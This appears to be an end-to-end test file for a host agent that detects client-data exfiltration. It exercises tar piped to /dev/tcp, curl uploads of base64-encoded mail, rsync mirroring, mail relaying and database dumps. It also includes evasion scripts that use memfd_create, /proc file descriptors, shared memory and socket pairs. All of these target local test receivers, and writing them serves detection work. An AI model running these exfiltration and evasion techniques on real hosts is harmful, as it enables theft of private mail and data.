"""Client data that somebody carries off with the tools that every host has; and the ways that are not seen, as far as is known."""

import os
import shutil
import socket
import subprocess

from agent import Agent, Place, brief
from disclosure_case import NOBODY, DisclosureCase, Receiver
from e2e_case import PROGRAM, main
from private_host import NEIGHBOUR, PrivateHost
from services import answers, free_port, make_databases, make_queues, mariadb, postfix
from services_case import VMAIL, ServicesCase
from waiting import wait_until

# As `| nc` would, but only when there is something to send: so it is known what comes first.
SEND_WHEN_IT_COMES = 'read -r line; exec 3>/dev/tcp/"$1"/"$2"; { echo "$line"; cat; } >&3'
READ_AND_HAND_OVER = """\
import socket, sys
mail = open(sys.argv[1], "rb").read()
with socket.socket(socket.AF_UNIX) as connection:
    connection.connect(sys.argv[2].replace("@", "\\0"))
    connection.sendall(mail)
"""
SHARE_MEMORY = """\
import mmap, os, sys
mail = open(sys.argv[1], "rb").read()
memory = os.open(f"/dev/shm/{sys.argv[2]}", os.O_RDWR | os.O_CREAT | os.O_EXCL)  # as shm_open does it
os.ftruncate(memory, len(mail))
mmap.mmap(memory, len(mail))[:] = mail
"""
SEND_SHARED_MEMORY = """\
import mmap, os, socket, sys
memory = os.open(f"/dev/shm/{sys.argv[1]}", os.O_RDONLY)
socket.create_connection(("127.0.0.1", int(sys.argv[2]))).sendall(mmap.mmap(memory, 0, prot=mmap.PROT_READ)[:])
"""
# Each forks before anything is read; the child sends what it gets by something that has no name.
BY_MAPPED_MEMORY = """\
import mmap, os, socket, sys
shared = mmap.mmap(-1, 4096)
told, tell = os.pipe()
if os.fork() == 0:
    os.read(told, 1)
    socket.create_connection(("127.0.0.1", int(sys.argv[2]))).sendall(shared[:16])
    os._exit(0)
os.close(told)
shared[:10] = open(sys.argv[1], "rb").read(10)
os.write(tell, b".")
os.close(tell)
os.wait()
"""
BY_A_PAIR_OF_SOCKETS = """\
import os, socket, sys
mine, other = socket.socketpair()
if os.fork() == 0:
    mail = other.recv(4096)
    socket.create_connection(("127.0.0.1", int(sys.argv[2]))).sendall(mail)
    os._exit(0)
mine.sendall(open(sys.argv[1], "rb").read())
os.wait()
"""
BY_A_FILE_IN_MEMORY = """\
import os, socket, sys
if os.fork() == 0:
    os.kill(os.getpid(), 19)
    with open(f"/proc/{os.getppid()}/fd/9", "rb") as file:
        socket.create_connection(("127.0.0.1", int(sys.argv[2]))).sendall(file.read())
    os._exit(0)
os.waitpid(-1, os.WUNTRACED)
mail = open(sys.argv[1], "rb").read()
os.dup2(os.memfd_create("x"), 9)
os.write(9, mail)
os.kill(int(open(f"/proc/self/task/{os.getpid()}/children").read()), 18)
os.wait()
"""


class Exfiltration(DisclosureCase):
    """One agent sees it all, since it takes its time to start."""

    @classmethod
    def setUpClass(cls):
        cls.place = Place("e2e")
        cls.addClassCleanup(cls.place.remove)
        cls.mail = cls.place.mailbox("alice", "Dear Alice\n")
        cls.agent = Agent(PROGRAM, cls.place.path, cls.policy(cls.place.path))
        cls.addClassCleanup(cls.agent.stop)
        cls.agent.start()

    def setUp(self):
        self.receive()
        self.settle()
        self.agent.new_findings()

    def pipeline(self, first, *destination):
        subprocess.run(["bash", "-o", "pipefail", "-c", f"{first} | bash -c '{SEND_WHEN_IT_COMES}' bash {' '.join(map(str, destination))}"],
                       check=True, timeout=60, stderr=subprocess.DEVNULL)

    def test_an_archive_through_a_pipe(self):
        self.pipeline(f"tar c {self.mail.parent}", "127.0.0.1", self.receiver.port)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "bash", carried="piped")

    def test_a_packed_archive_through_a_pipe(self):
        if not self.sees_pipes():
            self.skipTest("this backend does not see gzip, which closes its pipes before it ends")
        self.pipeline(f"tar cz {self.mail.parent}", "127.0.0.1", self.receiver.port)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "bash", carried="piped")

    def test_what_a_script_got_from_a_pipe_that_is_closed(self):
        if not self.sees_pipes():
            self.skipTest("this backend does not see who reads from a pipe, closes it and goes on")
        there = f"127.0.0.1:{self.receiver.port}"
        for act in (f"curl -sS --max-time 20 http://{there}/$(base64 -w0 {self.mail})",
                    f"cat {self.mail} | cat >/dev/tcp/{there.replace(':', '/')}"):
            with self.subTest(act):
                subprocess.run(["bash", "-c", act], check=True, timeout=60)
                [found] = self.ways_out(1)
                self.assertEqual((found["purposewatch"]["reason"], found["destination"]["port"]), ("no-egress", self.receiver.port))

    def test_what_leaves_the_host_is_told_as_that(self):
        try:
            host = PrivateHost(self.place.path, has_network=True)
        except OSError as error:
            self.skipTest(f"no namespaces can be made here: {error}")
        self.addCleanup(host.remove)
        with host.elsewhere():
            self.addCleanup(socket.create_server((NEIGHBOUR, 443)).close)
        with host.network():
            self.pipeline(f"tar c {self.mail.parent}", NEIGHBOUR, 443)
        [found] = self.ways_out(1)
        self.assertEqual((found["destination"], found["purposewatch"]["disclosure"]),
                         ({"address": NEIGHBOUR, "port": 443}, {"kind": "network", "protocol": "tcp", "carried": "piped"}))

    def test_an_upload_of_the_mail_itself(self):
        subprocess.run(["curl", "-sS", "--max-time", "20", "-T", self.mail, f"http://127.0.0.1:{self.receiver.port}/"], check=True)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "curl")

    def test_a_mirror(self):
        place, port = self.place.path, free_port()
        (place / "rsyncd.conf").write_text(f"use chroot = no\nreverse lookup = no\n[all]\npath = {place}/mirror\nread only = no\nuid = 0\ngid = 0\n")
        (place / "mirror").mkdir()
        server = subprocess.Popen(["rsync", "--daemon", "--no-detach", f"--config={place}/rsyncd.conf", f"--port={port}", "--address=127.0.0.1"])
        self.addCleanup(server.wait)
        self.addCleanup(server.terminate)
        wait_until(lambda: answers(port), "the rsync daemon answers")
        subprocess.run(["rsync", "-a", f"{place}/vmail/", f"rsync://127.0.0.1:{port}/all/"], check=True, timeout=60)
        [found] = self.ways_out(1)
        self.assertEqual((found["destination"]["port"], found["purposewatch"]["disclosure"]["carried"]), (port, "read"))
        self.assertEqual((place / "mirror/example.org/alice/cur/1").read_text(), "Dear Alice\n")

    def test_a_copy_that_has_another_name_when_it_is_sent(self):
        first, second, third = (self.place.path / name for name in ("first", "second", "third"))
        subprocess.run(["cp", self.mail, first], check=True)
        self.assertEqual(self.ways_out(1)[0]["purposewatch"]["disclosure"], {"kind": "copy", "carried": "read", "path": str(first)})
        subprocess.run(f"mv {first} {second}; ln {second} {third}; rm {second}", shell=True, check=True)
        subprocess.run(["curl", "-sS", "--max-time", "20", "-T", third, f"http://127.0.0.1:{self.receiver.port}/"], check=True)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "curl", carried="derived")

    def test_another_process_behind_a_socket(self):
        for name in (str(self.place.path / "collector"), f"@collector-{os.getpid()}"):
            with socket.socket(socket.AF_UNIX) as collector:
                collector.bind(name.replace("@", "\0"))
                collector.listen()
                self.run_script(READ_AND_HAND_OVER, self.mail, name)
            [found] = self.ways_out(1)
            self.assertEqual((found["purposewatch"]["reason"], found["purposewatch"]["disclosure"]["kind"],
                              found["purposewatch"]["disclosure"]["protocol"], found["purposewatch"]["disclosure"]["path"]),
                             ("no-egress", "local", "unix", name))

    def test_shared_memory_with_a_name_is_a_file(self):
        name = f"purposewatch-{os.getpid()}"
        self.addCleanup(os.unlink, f"/dev/shm/{name}")
        self.run_script(SHARE_MEMORY, self.mail, name)
        found = self.ways_out(1)[0]
        self.assertEqual(found["purposewatch"]["disclosure"], {"kind": "copy", "carried": "read", "path": f"/dev/shm/{name}"})
        self.run_script(SEND_SHARED_MEMORY, name, self.receiver.port)
        self.assert_flagged(self.ways_out(1)[0], "tcp", "python3", carried="derived")

    def not_promised(self, script):
        """That the mail was read is told; where it went, only if it is seen, and then rightly."""
        self.run_script(script, self.mail, self.receiver.port)
        self.settle()
        found = self.agent.findings_until(lambda found: found, "the reading")
        self.assertEqual([one["event"]["action"] for one in found if "disclosure" not in one["purposewatch"]], ["read"])
        for one in found:
            if "disclosure" in one["purposewatch"]:
                self.assertEqual(one["destination"]["port"], self.receiver.port)

    def test_mapped_memory_is_not_promised(self):
        self.not_promised(BY_MAPPED_MEMORY)

    def test_a_pair_of_sockets_is_not_promised(self):
        self.not_promised(BY_A_PAIR_OF_SOCKETS)

    def test_a_file_in_memory_is_not_promised(self):
        self.not_promised(BY_A_FILE_IN_MEMORY)


class ExfiltrationByServices(ServicesCase):
    """Under the shipped policy."""
    NEEDS = ("curl", "mariadbd", "mariadb-dump", "postmap", "setpriv")
    MOVED = (("postfix", "/var/spool/postfix"), ("postfix-config", "/etc/postfix"))
    HAS_NETWORK = True

    def flagged_way(self, by, to=None):
        """The one of that program; the services have ways of their own."""
        def of_it(found):
            ways = [one for one in found if "disclosure" in one["purposewatch"] and one["process"]["name"] == by]
            return [one for one in ways if to in (None, one["purposewatch"]["disclosure"].get("path"))]
        ways = of_it(self.agent.findings_until(of_it, f"a disclosure by {by}"))
        self.assertEqual([(one["purposewatch"]["verdict"], one["purposewatch"]["reason"]) for one in ways], [("flagged", "no-egress")],
                         [brief(one) for one in ways])
        return ways[0]

    def test_mail_that_is_sent_on_by_the_mail_server(self):
        (self.directory("vmail/example.org/alice/cur", VMAIL) / "1").write_text("Dear Alice\n")
        make_queues(self.place.path)
        self.watch()
        self.serve(postfix, free_port(), NEIGHBOUR)
        subprocess.run(f"sendmail mallory@example.net < {self.place.path}/vmail/example.org/alice/cur/1", shell=True, check=True,
                       preexec_fn=self.host.enter)
        way = self.flagged_way("postdrop", to="/var/spool/postfix/public/pickup")
        self.assertEqual((way["purposewatch"]["store"], way["purposewatch"]["disclosure"]["carried"]), ("client-mail", "inherited"))

    def assert_is_sent(self, copy, by):
        receiver = Receiver()
        self.addCleanup(receiver.stop)
        copy.chmod(0o644)
        copied = self.flagged_way(by)["purposewatch"]
        self.assertEqual((copied["store"], copied["disclosure"]["kind"], copied["disclosure"]["path"]), ("database-servers", "copy", str(copy)))
        subprocess.run(["curl", "-sS", "--max-time", "20", "-T", copy, f"http://127.0.0.1:{receiver.port}/"], check=True, user=NOBODY)
        sent = self.flagged_way("curl")
        self.assertEqual((sent["purposewatch"]["store"], sent["purposewatch"]["reason"], sent["purposewatch"]["disclosure"]["carried"],
                          sent["destination"]["port"]), ("database-servers", "no-egress", "derived", receiver.port))

    def test_a_dump_that_another_user_sends_later(self):
        for name in ("mysqld", "mysql"):
            shutil.chown(self.directory(name), "mysql", "mysql")
        make_databases(self.place.path)
        self.watch()
        self.serve(mariadb, self.database_port)
        dump, copy = f"mariadb-dump --no-defaults --socket={self.place.path}/mysqld/mysqld.sock mysql user", self.directory("out") / "x"
        subprocess.run(f"{dump} > {copy}", shell=True, check=True)
        self.assert_is_sent(copy, "mariadb-dump")
        with self.subTest("packed"):
            if not self.sees_pipes():
                self.skipTest("this backend does not see gzip, which closes its pipes before it ends")
            packed = copy.with_suffix(".gz")
            subprocess.run(f"{dump} | gzip > {packed}", shell=True, check=True)
            self.assert_is_sent(packed, "gzip")


if __name__ == "__main__":
    main()
